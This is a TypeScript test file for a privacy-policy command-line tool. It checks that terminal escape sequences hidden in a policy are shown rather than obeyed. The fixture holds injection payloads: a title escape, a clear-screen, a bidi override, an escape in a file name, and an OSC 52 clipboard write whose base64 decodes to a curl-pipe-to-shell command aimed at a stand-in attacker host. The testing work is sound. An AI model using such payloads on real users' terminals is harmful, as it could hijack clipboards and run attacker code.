/**
 * Issue 9, item 5: a policy's title and quotes reach the terminal through `analyze` and `diff`.
 * The real command line (cli/bin.js, as a user runs it) on a policy holding a window-title
 * escape (OSC 0 ... BEL), a clear-screen (CSI 2 J), a clipboard write (OSC 52) and a bidi
 * override must print none of them raw; JSON output keeps them exactly.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { showControls } from '../../../lib/terminal/visible-controls';

const REPO = resolve(__dirname, '..', '..', '..');
const ESC = '\u001b';
const BEL = '\u0007';
const TITLE = `${ESC}]0;pwned${BEL}`;
const CLEAR = `${ESC}[2J`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`;

const POLICY = [
  `# Example Privacy Policy ${TITLE}`,
  '',
  'Last updated: May 1, 2020',
  '',
  `We do not sell your personal information.${CLEAR} We keep your data for 30 days${CLIPBOARD}.`,
  '',
  'We share personal information with service providers who process it for us \u202Egnimoc\u202C.',
  '',
  'You may contact us at privacy@example.com about this privacy policy and your personal data and cookies.',
  '',
  // Enough ordinary prose that the few control characters do not make the file look binary.
  ...Array.from({ length: 12 }, () => 'We collect the information you give us when you use the service, and we use it to run the service for you.'),
].join('\n');

// Raw control characters other than line feed and tab, DEL, C1 and bidi controls.
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const dir = mkdtempSync(join(tmpdir(), 'pi-controls-'));
const hostile = join(dir, 'hostile.md');
const plain = join(dir, 'plain.md');
writeFileSync(hostile, POLICY);
writeFileSync(plain, POLICY.replace(/[\u0000-\u001f\u202a-\u202e]/g, (ch) => (ch === '\n' ? ch : '')).replace('30 days', '90 days'));

function cli(...args: string[]): { code: number | null; stdout: string; stderr: string } {
  const result = spawnSync(process.execPath, [join(REPO, 'cli', 'bin.js'), ...args], { cwd: REPO, encoding: 'utf8', timeout: 60_000 });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

describe('the command line shows control characters from policies instead of obeying them', () => {
  it('analyze: no raw control character on stdout, the escapes shown visibly', () => {
    const { code, stdout } = cli('analyze', hostile);
    expect(code).toBe(0);
    expect(stdout).toContain('Example Privacy Policy');
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain('␛]0;pwned␇');
  });

  it('analyze --json keeps the text exactly', () => {
    const { code, stdout } = cli('analyze', hostile, '--json');
    expect(code).toBe(0);
    const parsed = JSON.parse(stdout) as { title: string };
    expect(parsed.title).toContain(TITLE);
  });

  it('diff: no raw control character on stdout or stderr', () => {
    const { stdout, stderr } = cli('diff', plain, hostile);
    expect(stdout + stderr).not.toMatch(RAW_CONTROL);
  });

  it('a file name with an escape in it is shown, not obeyed, in errors', () => {
    const { code, stderr } = cli('analyze', join(dir, `missing${CLEAR}.md`));
    expect(code).not.toBe(0);
    expect(stderr).not.toMatch(RAW_CONTROL);
  });

  it('showControls: C0 as control pictures, DEL, C1 and bidi as escapes, line feed and tab kept', () => {
    expect(showControls(`a${ESC}[2Jb\u007fc\u009bd\u202Ee\n\tf`)).toBe('a␛[2Jb␡c\\u{9B}d\\u{202E}e\n\tf');
  });
});
